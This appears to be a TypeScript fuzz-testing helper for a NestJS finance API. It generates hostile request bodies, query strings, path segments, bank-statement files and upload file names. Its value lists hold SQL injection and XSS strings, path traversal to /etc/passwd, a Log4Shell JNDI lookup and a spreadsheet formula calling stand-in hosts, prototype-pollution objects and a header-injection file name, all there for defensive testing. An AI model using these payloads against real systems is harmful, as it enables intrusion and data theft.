import fc from 'fast-check';
import { z } from 'zod';
import type { INestApplication } from '@nestjs/common';
import { ROUTE_ARGS_METADATA } from '@nestjs/common/constants';
import { RouteParamtypes } from '@nestjs/common/enums/route-paramtypes.enum';
import { ZodValidationPipe } from '../http/zod';
import { discoverRoutes } from '../security/route-discovery';
import { camt } from '../reconciliation/bank.test-support';

/** What a route reads from the request, as its handler declares it (zod pipes, raw body, headers). */
export interface RouteContract {
  body: z.ZodType | null;
  query: z.ZodType | null;
  /** The handler takes the body without a schema: a raw upload (Buffer) or ignored. */
  rawBody: boolean;
  headers: string[];
}

interface RouteArg {
  index: number;
  data?: unknown;
  pipes?: unknown[];
}

/** The contracts of every route, keyed like route-discovery.ts ("POST /api/v1/orgs/:orgId/contacts"). */
export function routeContracts(app: INestApplication): Map<string, RouteContract> {
  const contracts = new Map<string, RouteContract>();
  for (const route of discoverRoutes(app)) {
    const args = (Reflect.getMetadata(ROUTE_ARGS_METADATA, route.controller, route.handlerName) ??
      {}) as Record<string, RouteArg>;
    const contract: RouteContract = { body: null, query: null, rawBody: false, headers: [] };
    for (const [key, arg] of Object.entries(args)) {
      const type = Number(key.split(':')[0]);
      const zodPipe = (arg.pipes ?? []).find((p) => p instanceof ZodValidationPipe) as
        { schema: z.ZodType } | undefined;
      if (type === (RouteParamtypes.BODY as number)) {
        if (zodPipe) contract.body = zodPipe.schema;
        else contract.rawBody = true;
      }
      if (type === (RouteParamtypes.QUERY as number) && zodPipe) contract.query = zodPipe.schema;
      if (type === (RouteParamtypes.HEADERS as number) && typeof arg.data === 'string')
        contract.headers.push(arg.data.toLowerCase());
    }
    contracts.set(route.key, contract);
  }
  return contracts;
}

// ---------------------------------------------------------------------------------------------
// Hostile values

/** Strings that broke something somewhere once: encodings, injections, separators, look-alikes. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '   \t ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uDBFFy',
  '\u202Eevil\u202C.pdf',
  '\u200B\u200C\u200D',
  '\uFEFFbom',
  '\uFFFE\uFFFF',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈🇫🇷',
  'e\u0301\u0302\u0303\u0304\u0305',
  'Z\u0336\u0334\u0335\u0337\u0338a\u0361\u035C',
  '\u0001\u001F\u007F\u0085',
  '\r\n\t\v\f',
  '\u2028\u2029',
  "'; DROP TABLE contacts; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&amp;&lt;&#x27;',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '%00',
  '%2e%2e%2f',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '=HYPERLINK("http://evil.example","x")',
  '+33 1 23',
  '-1',
  '@SUM(A1:A2)',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '0x1F',
  '__proto__',
  'constructor',
  'ß',
  'İı',
  'ﬀ',
  'ǅ',
  'مرحبا',
  'עברית',
  '漢字',
  '\u{10FFFF}',
  'a'.repeat(300),
  '9'.repeat(40),
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31T23:59:60Z',
  'FR76 3000 6000 0112 3456 7890 189',
  'anne@example.org',
  'a@b',
  '00000000-0000-0000-0000-000000000000',
];

const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

/** Strings a hostile client sends: the list above, random code points, lone surrogates, long runs. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: anyCodeUnit, maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('a', 'é', '\u0000', '😀', '\uD800', '<', '=', '9'),
        fc.integer({ min: 256, max: 70_000 }),
      )
      .map(([c, n]) => c.repeat(n)),
  },
);

/** Any JSON-ish value of any type: what ends up in a field that expects something else. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.oneof(
      fc.integer(),
      fc.double(),
      fc.constantFrom(
        0,
        -1,
        -0,
        1e308,
        -1e308,
        Number.MAX_SAFE_INTEGER + 2,
        2 ** 31,
        -(2 ** 63),
        0.1 + 0.2,
        123456789012345,
      ),
    ),
  },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
  {
    weight: 1,
    arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
  },
);

// ---------------------------------------------------------------------------------------------
// Values shaped like a contract (generated from its JSON schema)

type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema | JsonSchema[];
  prefixItems?: JsonSchema[];
  minItems?: number;
  maxItems?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  default?: unknown;
  $ref?: string;
  $defs?: Record<string, JsonSchema>;
};

export function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  try {
    return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  } catch {
    return {};
  }
}

const isoDate = fc
  .date({
    min: new Date('2020-01-01T00:00:00Z'),
    max: new Date('2030-12-31T00:00:00Z'),
    noInvalidDate: true,
  })
  .map((d) => d.toISOString().slice(0, 10));

/** Values that should mostly pass the schema (real ids for uuid fields), so that requests reach the services. */
export function arbitraryFromSchema(
  schema: JsonSchema,
  ids: readonly string[],
  root: JsonSchema = schema,
  depth = 0,
): fc.Arbitrary<unknown> {
  if (depth > 6) return fc.constant(null);
  const next = (s: JsonSchema) => arbitraryFromSchema(s, ids, root, depth + 1);
  if (schema.$ref) {
    const name = schema.$ref.replace(/^#\/\$defs\//, '');
    const target = root.$defs?.[name];
    return target ? next(target) : fc.constant(null);
  }
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives && alternatives.length > 0) return fc.oneof(...alternatives.map(next));
  if (schema.allOf && schema.allOf.length > 0) return next(schema.allOf[0]);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string': {
      if (schema.format === 'uuid')
        return ids.length > 0 ? fc.oneof(fc.constantFrom(...ids), fc.uuid()) : fc.uuid();
      if (schema.format === 'email') return fc.emailAddress();
      if (schema.format === 'date') return isoDate;
      if (schema.format === 'date-time')
        return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
      if (schema.format === 'uri' || schema.format === 'url') return fc.webUrl();
      if (schema.pattern) {
        try {
          return fc.stringMatching(new RegExp(schema.pattern), { size: 'small' });
        } catch {
          // A pattern fast-check cannot read: plain strings.
        }
      }
      const min = schema.minLength ?? 0;
      const max = Math.max(min, Math.min(schema.maxLength ?? 40, 60));
      return fc.oneof(
        { weight: 3, arbitrary: fc.string({ minLength: min, maxLength: max, unit: 'grapheme' }) },
        { weight: 1, arbitrary: fc.string({ minLength: min, maxLength: max }) },
      );
    }
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum ?? -1_000_000;
      const max = schema.maximum ?? schema.exclusiveMaximum ?? 1_000_000;
      const lo = Math.max(min, -1e9);
      const hi = Math.min(max, 1e9);
      return type === 'integer'
        ? fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) })
        : fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      if (schema.prefixItems) return fc.tuple(...schema.prefixItems.map(next));
      const item = Array.isArray(schema.items) ? schema.items[0] : schema.items;
      return fc.array(item ? next(item) : hostileValue, {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 4, 4)),
      });
    }
    case 'object': {
      const properties = schema.properties ?? {};
      const keys = Object.keys(properties);
      if (keys.length === 0) {
        const extra =
          typeof schema.additionalProperties === 'object'
            ? next(schema.additionalProperties)
            : hostileValue;
        return fc.dictionary(fc.string({ maxLength: 12 }), extra, { maxKeys: 3 });
      }
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const key of keys) model[key] = next(properties[key]);
      return fc.record(model, {
        requiredKeys: schema.required?.filter((k) => keys.includes(k)) ?? [],
      });
    }
    default:
      return hostileValue;
  }
}

/** A contract-shaped object with some of its fields replaced by values of the wrong type or size. */
export function mutatedFromSchema(
  schema: JsonSchema,
  ids: readonly string[],
): fc.Arbitrary<unknown> {
  const keys = Object.keys(schema.properties ?? {});
  const base = arbitraryFromSchema(schema, ids);
  if (keys.length === 0) return fc.oneof(base, hostileValue);
  return fc
    .tuple(
      base,
      fc.array(
        fc.tuple(
          fc.constantFrom(...keys, '__proto__', 'constructor', 'unknownField'),
          hostileValue,
        ),
        {
          minLength: 1,
          maxLength: 3,
        },
      ),
    )
    .map(([value, changes]) => {
      const object: Record<string, unknown> =
        value !== null && typeof value === 'object' && !Array.isArray(value) ? { ...value } : {};
      for (const [key, v] of changes)
        Object.defineProperty(object, key, {
          value: v,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      return object;
    });
}

// ---------------------------------------------------------------------------------------------
// Bodies, query strings, path segments

export interface FuzzBody {
  kind: string;
  contentType: string | null;
  payload: string | Buffer | null;
}

/** Deep nesting as raw JSON text (no recursion on our side). */
export function deepJson(levels: number, style: 'array' | 'object' | 'mixed'): string {
  if (style === 'array') return `${'['.repeat(levels)}1${']'.repeat(levels)}`;
  if (style === 'object') return `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
  return `${'{"a":['.repeat(levels)}1${']}'.repeat(levels)}`;
}

const BROKEN_JSON = [
  '{',
  '}',
  '{"a":',
  '{"a":1,}',
  '[1,2,',
  "{'a':1}",
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":undefined}',
  '{a:1}',
  '\uFEFF{"a":1}',
  '{"a":"\\u00"}',
  '{"a":"\\uD800"}',
  '{"a":"\\u0000"}',
  '"\\ud83d"',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  'null',
  'true',
  '0',
  '-1e999',
  '"just a string"',
  '[]',
  '[{}]',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":"\u0000"}',
  '\u0000',
  '   ',
];

const CONTENT_TYPES = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'multipart/form-data',
  'application/xml',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'application/json, text/plain',
  'application/pdf',
  'text/csv',
  'image/png',
  ';;;',
  'json',
  '*/*',
];

const MULTIPART_GARBAGE = [
  '------x\r\nContent-Disposition: form-data; name="file"; filename="../../etc/passwd"\r\n\r\nroot:x:0:0\r\n------x--\r\n',
  '------x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1',
  '--\r\n\r\n--',
  'not multipart at all',
];

/** Every kind of body a hostile client sends to a JSON route. */
export function jsonRouteBody(
  schema: z.ZodType | null,
  ids: readonly string[],
  bodyLimit: number,
): fc.Arbitrary<FuzzBody> {
  const json = schema ? jsonSchemaOf(schema) : {};
  const shaped = schema ? arbitraryFromSchema(json, ids) : fc.jsonValue({ maxDepth: 2 });
  const mutated = schema ? mutatedFromSchema(json, ids) : hostileValue;
  const asJson =
    (kind: string) =>
    (value: unknown): FuzzBody => ({
      kind,
      contentType: 'application/json',
      payload: JSON.stringify(value) ?? 'null',
    });
  return fc.oneof(
    { weight: 6, arbitrary: shaped.map(asJson('contract')) },
    { weight: 8, arbitrary: mutated.map(asJson('contract with wrong types')) },
    { weight: 3, arbitrary: hostileValue.map(asJson('random JSON value')) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.constantFrom<'array' | 'object' | 'mixed'>('array', 'object', 'mixed'),
          fc.integer({ min: 500, max: 20_000 }),
          shaped,
        )
        .map(([style, levels, value]): FuzzBody => {
          const deep = deepJson(levels, style);
          const object =
            value !== null && typeof value === 'object' && !Array.isArray(value) ? value : {};
          const keys = Object.keys(object);
          // Either the whole body, or nested in one of the contract's fields.
          const payload =
            keys.length > 0 && levels % 2 === 0
              ? JSON.stringify({
                  ...object,
                  [keys[levels % keys.length]]: '\u0001DEEP\u0001',
                }).replace('"\\u0001DEEP\\u0001"', deep)
              : deep;
          return { kind: `deep JSON (${levels} levels)`, contentType: 'application/json', payload };
        }),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.integer({ min: -64, max: 64 * 1024 }),
          fc.constantFrom('a', 'é', '😀', '\\u0000'),
          shaped,
        )
        .map(([delta, unit, value]): FuzzBody => {
          // A string field sized around the body limit: just under, at, and beyond it.
          const object =
            value !== null && typeof value === 'object' && !Array.isArray(value) ? value : {};
          const key = Object.keys(object)[0] ?? 'name';
          const rest = JSON.stringify(object).slice(1, -1);
          const head = `{${JSON.stringify(key)}:"`;
          const tail = `"${rest ? `,${rest}` : ''}}`;
          const room = bodyLimit + delta - head.length - Buffer.byteLength(tail);
          return {
            kind: `huge string (${delta >= 0 ? '+' : ''}${delta} bytes around the limit)`,
            contentType: 'application/json',
            payload: `${head}${unit.repeat(Math.max(0, Math.floor(room / Buffer.byteLength(unit))))}${tail}`,
          };
        }),
    },
    {
      weight: 3,
      arbitrary: fc
        .constantFrom(...BROKEN_JSON)
        .map((payload) => ({ kind: 'invalid JSON', contentType: 'application/json', payload })),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(shaped, fc.string({ maxLength: 200 })).map(([value, cut]) => {
        const text = JSON.stringify(value) ?? '{}';
        return {
          kind: 'truncated JSON',
          contentType: 'application/json',
          payload: text.slice(
            0,
            Math.max(1, text.length - 1 - (cut.length % Math.max(1, text.length))),
          ),
        };
      }),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(shaped, hostileValue).map(([value, other]): FuzzBody => {
        // The same key twice: JSON.parse keeps the last one, the contract must judge that one.
        const object =
          value !== null && typeof value === 'object' && !Array.isArray(value) ? value : { a: 1 };
        const key = Object.keys(object)[0] ?? 'a';
        const text = JSON.stringify(object);
        return {
          kind: 'duplicate keys',
          contentType: 'application/json',
          payload: `{${JSON.stringify(key)}:${JSON.stringify(other) ?? 'null'},${text.slice(1)}`,
        };
      }),
    },
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.constantFrom<string | null>(...CONTENT_TYPES, null),
          shaped,
          fc.constantFrom(...MULTIPART_GARBAGE),
          fc.boolean(),
        )
        .map(([contentType, value, multipart, useMultipart]): FuzzBody => ({
          kind: `wrong content type (${contentType ?? 'none'})`,
          contentType,
          payload:
            contentType?.startsWith('multipart') && useMultipart
              ? multipart
              : contentType === 'application/x-www-form-urlencoded'
                ? new URLSearchParams(
                    Object.entries(
                      value !== null && typeof value === 'object'
                        ? (value as Record<string, unknown>)
                        : { value },
                    ).map(([k, v]): [string, string] => [k, asText(v)]),
                  ).toString()
                : (JSON.stringify(value) ?? ''),
        })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<FuzzBody>(
        { kind: 'empty body, JSON type', contentType: 'application/json', payload: '' },
        { kind: 'no body at all', contentType: null, payload: null },
        { kind: 'empty object', contentType: 'application/json', payload: '{}' },
      ),
    },
  );
}

/** Bodies of an upload route (raw bytes with a file type), plus JSON sent where a file is expected. */
export function rawRouteBody(
  fileTypes: readonly string[],
  uploadLimit: number,
): fc.Arbitrary<FuzzBody> {
  return fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .tuple(fc.constantFrom(...fileTypes), fc.uint8Array({ maxLength: 2000 }))
        .map(([contentType, bytes]) => ({
          kind: `random bytes (${contentType})`,
          contentType,
          payload: Buffer.from(bytes),
        })),
    },
    {
      weight: 3,
      arbitrary: fc
        .tuple(
          fc.constantFrom(...fileTypes),
          fc.array(fc.array(hostileString, { maxLength: 6 }), { maxLength: 8 }),
        )
        .map(([contentType, rows]) => ({
          kind: `hostile text file (${contentType})`,
          contentType,
          payload: Buffer.from(rows.map((r) => r.join(';')).join('\r\n'), 'utf8'),
        })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...fileTypes), fc.integer({ min: -16, max: 16 }))
        .map(([contentType, delta]) => ({
          kind: `file around the upload limit (${delta})`,
          contentType,
          payload: Buffer.alloc(Math.max(0, uploadLimit + delta), 0x41),
        })),
    },
    { weight: 3, arbitrary: hostileStatementFile },
    { weight: 2, arbitrary: jsonRouteBody(null, [], 1024) },
  );
}

const xmlEscape = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/**
 * Well-formed bank statements (CAMT.053, OFX) and contact tables whose texts are hostile: raw or
 * escaped, NUL bytes and lone surrogates included, so that the readers get past the format check.
 */
const hostileStatementFile: fc.Arbitrary<FuzzBody> = fc
  .tuple(
    fc.constantFrom<'camt' | 'ofx' | 'contacts'>('camt', 'ofx', 'contacts'),
    fc.array(hostileString, { minLength: 1, maxLength: 4 }),
    fc.boolean(),
    fc.integer({ min: 1, max: 99_999 }),
  )
  .map(([format, texts, escape, cents]): FuzzBody => {
    const text = (i: number) => {
      const raw = texts[i % texts.length].slice(0, 500);
      return escape ? xmlEscape(raw) : raw;
    };
    const amount = (cents / 100).toFixed(2);
    const day = new Date().toISOString().slice(0, 10);
    if (format === 'camt')
      return {
        kind: 'hostile statement file (camt.053)',
        contentType: 'application/xml',
        payload: camt(
          [{ amount, cdi: 'CRDT', ref: text(1).slice(0, 30), label: text(0), day, party: text(2) }],
          '0.00',
          amount,
          day,
        ),
      };
    if (format === 'ofx')
      return {
        kind: 'hostile statement file (ofx)',
        contentType: 'application/x-ofx',
        payload: Buffer.from(
          `OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\nCHARSET:1252\n\n<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>EUR<BANKACCTFROM><ACCTID>12345678901<BANKID>30006</BANKACCTFROM><BANKTRANLIST><STMTTRN><TRNTYPE>CREDIT<DTPOSTED>${day.replace(/-/g, '')}<TRNAMT>${amount}<FITID>${text(1).slice(0, 30)}<NAME>${text(0)}<MEMO>${text(2)}</STMTTRN></BANKTRANLIST><LEDGERBAL><BALAMT>${amount}<DTASOF>${day.replace(/-/g, '')}</LEDGERBAL></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`,
          'utf8',
        ),
      };
    return {
      kind: 'hostile statement file (contacts csv)',
      contentType: 'text/csv',
      payload: Buffer.from(
        `Nom;Prénom;E-mail;Ville\r\n${texts.map((_, i) => `${text(i)};${text(i + 1)};x${i}@example.org;${text(i + 2)}`).join('\r\n')}\r\n`,
        'utf8',
      ),
    };
  });

/** Path segments that are not ids: garbage, traversal, encodings, very long, numbers. */
export const garbageSegment: fc.Arbitrary<string> = fc.oneof(
  fc.uuid().map((u) => u),
  fc.constantFrom(
    'not-a-uuid',
    '0',
    '-1',
    '99999999999999999999999',
    '1e5',
    'null',
    'undefined',
    '__proto__',
    'constructor',
    '..',
    '.',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%5C..%5Cwindows',
    '%00',
    'a%00b',
    '%F0%9F%92%A9',
    '%ED%A0%80',
    '%C0%AF',
    '%25',
    '%20',
    'x'.repeat(5000),
    '00000000-0000-0000-0000-000000000000',
    'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
    '{{id}}',
    "1'or'1'='1",
  ),
  hostileString
    .filter((s) => s.length < 3000)
    .map((s) => encodeURIComponent(s.replace(/[\uD800-\uDFFF]/g, '\uFFFD'))),
);

const safeEncode = (s: string) => encodeURIComponent(s.replace(/[\uD800-\uDFFF]/g, '\uFFFD'));

/** A generated value as a form or query field: strings as they are, anything else as JSON. */
const asText = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? '');

/** A query string: the contract's keys with plausible or hostile values, unknown keys, repeated keys, raw bad escapes. */
export function queryString(
  schema: z.ZodType | null,
  ids: readonly string[],
): fc.Arbitrary<string> {
  const json = schema ? jsonSchemaOf(schema) : {};
  const keys = Object.keys(json.properties ?? {});
  const plausible = schema
    ? arbitraryFromSchema(json, ids).map((v) =>
        v !== null && typeof v === 'object'
          ? Object.entries(v as Record<string, unknown>)
              .map(([k, x]) =>
                Array.isArray(x)
                  ? x.map((i) => `${safeEncode(k)}=${safeEncode(asText(i))}`).join('&')
                  : `${safeEncode(k)}=${safeEncode(asText(x))}`,
              )
              .join('&')
          : '',
      )
    : fc.constant('');
  const hostile = fc
    .array(
      fc.tuple(
        keys.length > 0 ? fc.oneof(fc.constantFrom(...keys), hostileString) : hostileString,
        hostileString,
      ),
      { minLength: 1, maxLength: 5 },
    )
    .map((pairs) =>
      pairs.map(([k, v]) => `${safeEncode(k)}=${safeEncode(v.slice(0, 4000))}`).join('&'),
    );
  const raw = fc.constantFrom(
    '%',
    '%E0%A4%A',
    'a=%ZZ',
    'a[b][c]=1',
    'limit=-1&offset=-1',
    'limit=1e10&offset=NaN',
    'limit=9999999999999999999999',
    'format=exe',
    'sort=;DROP',
    '&&&==&',
    'q=%00',
    'year=-2026',
    '__proto__[x]=1',
    keys.length > 0 ? `${keys[0]}=1&${keys[0]}=2&${keys[0]}=3` : 'a=1&a=2',
  );
  return fc.oneof(
    { weight: 5, arbitrary: plausible },
    { weight: 3, arbitrary: hostile },
    { weight: 1, arbitrary: raw },
    { weight: 1, arbitrary: fc.constant('') },
  );
}

/** File names a hostile client gives an upload. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  '../../etc/passwd',
  '../../../../../../tmp/ruche-escape.txt',
  '/etc/passwd',
  '/tmp/ruche-escape.txt',
  'C:\\Windows\\System32\\evil.pdf',
  '..\\..\\..\\evil.pdf',
  '\\\\server\\share\\evil.pdf',
  'evil\u0000.pdf.exe',
  'evil.pdf\u0000',
  '\u0000',
  '.',
  '..',
  '...',
  '.htaccess',
  'a'.repeat(1000) + '.pdf',
  'é'.repeat(300) + '.csv',
  '😀'.repeat(200) + '.xml',
  'name\r\nX-Injected: yes.pdf',
  'quote".pdf',
  "semi;colon'.pdf",
  '\u202Efdp.exe',
  'CON',
  'nul.txt',
  ' ',
  '%2e%2e%2fetc%2fpasswd',
  '%00.pdf',
  'file:///etc/passwd',
];

/** The x-file-name header as sent: URL-encoded (as the admin does), raw, or with broken escapes. */
export const hostileFileNameHeader: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_FILE_NAMES).map((n) => safeEncode(n)) },
  { weight: 2, arbitrary: hostileString.map((n) => safeEncode(n.slice(0, 3000))) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '%',
      '%E0%A4%A',
      '%ZZ.pdf',
      '..%2F..%2Fetc%2Fpasswd',
      'plain name.pdf',
    ),
  },
);
